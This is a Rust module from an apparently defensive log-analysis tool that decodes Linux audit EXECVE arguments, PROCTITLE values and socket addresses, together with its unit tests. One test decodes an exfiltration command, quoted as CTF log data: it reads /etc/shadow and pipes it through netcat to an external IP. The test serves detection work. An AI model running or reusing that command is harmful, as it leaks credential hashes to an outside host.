//! Decoding the kernel's encodings: EXECVE arguments, PROCTITLE and SOCKADDR
//! (telemetry-formats §3.1–§3.2).
//!
//! The kernel writes a string quoted when it is plain and as upper-case hex (no quotes) when
//! it contains a `"`, a byte below 0x21 (space included) or above 0x7e
//! (`audit_string_contains_control`). A long argument is split into `aN_len=` and `aN[i]=`
//! pieces, each encoded on its own, and one exec may span several EXECVE records.
//!
//! **Command line.** kqlhunt joins argv with single spaces and no quoting, as Sysmon for
//! Linux does and as Defender's POSIX rows show (§3.2), so one rule sees the same
//! `ProcessCommandLine` from either source. The argv array itself is kept in
//! `AdditionalFields.ProcessArgv`, so an argument that contained spaces is never ambiguous.

use super::record::{AuditRecord, RawValue};
use std::collections::HashMap;

/// Decodes one kernel string value: quoted → as is; bare even-length hex → its bytes; any
/// other bare text (`(null)`) → as is.
pub fn decode_value(v: &RawValue) -> Vec<u8> {
    if v.quoted {
        return v.text.as_bytes().to_vec();
    }
    hex_decode(&v.text).unwrap_or_else(|| v.text.as_bytes().to_vec())
}

/// Hex text → bytes (`None` unless non-empty, even-length and all hex digits).
pub fn hex_decode(s: &str) -> Option<Vec<u8>> {
    let b = s.as_bytes();
    if b.is_empty() || !b.len().is_multiple_of(2) {
        return None;
    }
    let digit = |c: u8| (c as char).to_digit(16);
    b.chunks_exact(2)
        .map(|pair| match pair {
            [hi, lo] => Some((digit(*hi)? * 16 + digit(*lo)?) as u8),
            _ => None,
        })
        .collect()
}

/// The argv of an exec, rebuilt from its EXECVE records.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Argv {
    /// The arguments (lossy UTF-8).
    pub args: Vec<String>,
    /// False when `argc` was missing or some arguments (or pieces) were not found.
    pub complete: bool,
}

/// Rebuilds argv from the EXECVE records of one event, in arrival order (§3.2 steps 1–2, 5).
pub fn argv(execve: &[&AuditRecord]) -> Argv {
    let fields: HashMap<&str, &RawValue> = execve
        .iter()
        .flat_map(|r| r.fields.iter())
        .map(|(k, v)| (k.as_str(), v))
        .collect();
    let find = |key: &str| fields.get(key).copied();
    let argc: Option<usize> = find("argc").and_then(|v| v.text.parse().ok());
    let mut args = Vec::new();
    let mut complete = argc.is_some();
    // No exec has more arguments than its records have fields: this bounds a broken argc.
    let limit = argc.unwrap_or(usize::MAX).min(fields.len());
    if argc.is_some_and(|n| n > fields.len()) {
        complete = false;
    }
    for i in 0..limit {
        if let Some(v) = find(&format!("a{i}")) {
            args.push(String::from_utf8_lossy(&decode_value(v)).into_owned());
        } else if find(&format!("a{i}[0]")).is_some() {
            let mut bytes = Vec::new();
            // `aN_len` counts the encoded characters (hex digits when hex-encoded).
            let mut encoded_len = 0usize;
            let mut j = 0usize;
            while let Some(piece) = find(&format!("a{i}[{j}]")) {
                bytes.extend(decode_value(piece));
                encoded_len += piece.text.len();
                j += 1;
            }
            let expected = find(&format!("a{i}_len")).and_then(|v| v.text.parse::<usize>().ok());
            if expected != Some(encoded_len) {
                complete = false;
            }
            args.push(String::from_utf8_lossy(&bytes).into_owned());
        } else if argc.is_some() {
            // A lost record: keep the order of what is there.
            complete = false;
        } else {
            break;
        }
    }
    Argv { args, complete }
}

/// The kernel truncates PROCTITLE to this many bytes (`MAX_PROCTITLE_AUDIT_LEN`).
pub const PROCTITLE_MAX: usize = 128;

/// Decodes a PROCTITLE value: NUL-separated argv, hex or quoted. Returns the arguments and
/// whether it may have been truncated (exactly 128 bytes long).
pub fn proctitle(v: &RawValue) -> (Vec<String>, bool) {
    let bytes = decode_value(v);
    let truncated = bytes.len() >= PROCTITLE_MAX;
    let args = bytes
        .split(|&b| b == 0)
        .filter(|a| !a.is_empty())
        .map(|a| String::from_utf8_lossy(a).into_owned())
        .collect();
    (args, truncated)
}

/// A decoded socket address.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum SockAddr {
    /// AF_INET / AF_INET6: address text and port.
    Ip {
        /// `10.0.0.12`, `2001:db8::1`.
        ip: String,
        /// Port (big-endian in the sockaddr).
        port: u16,
        /// `AF_INET` or `AF_INET6`.
        family: &'static str,
    },
    /// Another family (AF_UNIX, AF_NETLINK, ...), by number.
    Other(u16),
}

/// Decodes a SOCKADDR `saddr` (hex of the raw sockaddr; the family is host-endian, and the
/// hosts audit runs on are little-endian).
pub fn sockaddr(saddr: &RawValue) -> Option<SockAddr> {
    let b = hex_decode(&saddr.text)?;
    let family = u16::from_le_bytes([*b.first()?, *b.get(1)?]);
    let port = || Some(u16::from_be_bytes([*b.get(2)?, *b.get(3)?]));
    match family {
        2 => {
            let a: [u8; 4] = b.get(4..8)?.try_into().ok()?;
            Some(SockAddr::Ip {
                ip: std::net::Ipv4Addr::from(a).to_string(),
                port: port()?,
                family: "AF_INET",
            })
        }
        10 => {
            let a: [u8; 16] = b.get(8..24)?.try_into().ok()?;
            let ip = std::net::Ipv6Addr::from(a);
            // An IPv4-mapped address is shown the way Defender shows IPv4 peers.
            let ip = match ip.to_ipv4_mapped() {
                Some(v4) => v4.to_string(),
                None => ip.to_string(),
            };
            Some(SockAddr::Ip {
                ip,
                port: port()?,
                family: "AF_INET6",
            })
        }
        other => Some(SockAddr::Other(other)),
    }
}

#[cfg(test)]
mod tests {
    use super::super::record::parse_line;
    use super::*;

    fn rec(line: &str) -> AuditRecord {
        parse_line(line).unwrap()
    }

    #[test]
    fn hex_arguments_decode_to_their_text() {
        // Real (CTF audit.log, telemetry-formats §3.3).
        let r = rec(
            "type=EXECVE msg=audit(1574163090.007:46336): argc=3 a0=\"/bin/sh\" a1=\"-c\" a2=636174202F6574632F736861646F777C6E632034342E36382E3133392E3234312033333333",
        );
        let a = argv(&[&r]);
        assert_eq!(
            a.args,
            vec!["/bin/sh", "-c", "cat /etc/shadow|nc 44.68.139.241 3333"]
        );
        assert!(a.complete);
    }

    #[test]
    fn split_arguments_and_several_records() {
        // "echo a b" hex-encoded = 6563686F20612062, split in two pieces; a0 in the first
        // record, the rest in a second EXECVE record without argc.
        let r1 = rec(
            "type=EXECVE msg=audit(1.000:1): argc=4 a0=\"sh\" a1_len=16 a1[0]=6563686F a1[1]=20612062",
        );
        let r2 = rec("type=EXECVE msg=audit(1.000:1): a2=\"\" a3=\"-x\"");
        let a = argv(&[&r1, &r2]);
        assert_eq!(a.args, vec!["sh", "echo a b", "", "-x"]);
        assert!(a.complete);
        // A wrong length or a missing argument marks the argv incomplete.
        let r1 = rec("type=EXECVE msg=audit(1.000:1): argc=3 a0=\"sh\" a1_len=20 a1[0]=6563686F");
        let a = argv(&[&r1]);
        assert_eq!(a.args, vec!["sh", "echo"]);
        assert!(!a.complete);
    }

    #[test]
    fn absurd_argc_stops() {
        let r = rec("type=EXECVE msg=audit(1.000:1): argc=4000000000 a0=\"x\"");
        let a = argv(&[&r]);
        assert_eq!(a.args, vec!["x"]);
        assert!(!a.complete);
    }

    #[test]
    fn proctitle_forms() {
        // Real (go-libaudit testdata): dash\0-p.
        let (args, truncated) = proctitle(&RawValue {
            text: "64617368002D70".into(),
            quoted: false,
        });
        assert_eq!(args, vec!["dash", "-p"]);
        assert!(!truncated);
        let (args, _) = proctitle(&RawValue {
            text: "whoami".into(),
            quoted: true,
        });
        assert_eq!(args, vec!["whoami"]);
        let long = "41".repeat(128);
        assert!(
            proctitle(&RawValue {
                text: long,
                quoted: false
            })
            .1
        );
    }

    #[test]
    fn sockaddr_families() {
        let v = |t: &str| RawValue {
            text: t.into(),
            quoted: false,
        };
        // Real shape (telemetry-formats §3.3): 192.168.1.5:8080.
        assert_eq!(
            sockaddr(&v("02001F90C0A8010500000000")),
            Some(SockAddr::Ip {
                ip: "192.168.1.5".into(),
                port: 8080,
                family: "AF_INET"
            })
        );
        // Kubelet: 10.0.0.12:10250 (0x280A).
        assert_eq!(
            sockaddr(&v("0200280A0A00000C0000000000000000")),
            Some(SockAddr::Ip {
                ip: "10.0.0.12".into(),
                port: 10250,
                family: "AF_INET"
            })
        );
        // AF_INET6 [2001:db8::1]:443 and the v4-mapped ::ffff:10.0.0.12:10250.
        assert_eq!(
            sockaddr(&v("0A0001BB0000000020010DB8000000000000000000000001")),
            Some(SockAddr::Ip {
                ip: "2001:db8::1".into(),
                port: 443,
                family: "AF_INET6"
            })
        );
        assert_eq!(
            sockaddr(&v(
                "0A00280A0000000000000000000000000000FFFF0A00000C00000000"
            )),
            Some(SockAddr::Ip {
                ip: "10.0.0.12".into(),
                port: 10250,
                family: "AF_INET6"
            })
        );
        // AF_UNIX /var/run/docker.sock.
        assert_eq!(
            sockaddr(&v("01002F7661722F72756E")),
            Some(SockAddr::Other(1))
        );
        assert_eq!(sockaddr(&v("02")), None);
        assert_eq!(sockaddr(&v("zz")), None);
    }
}
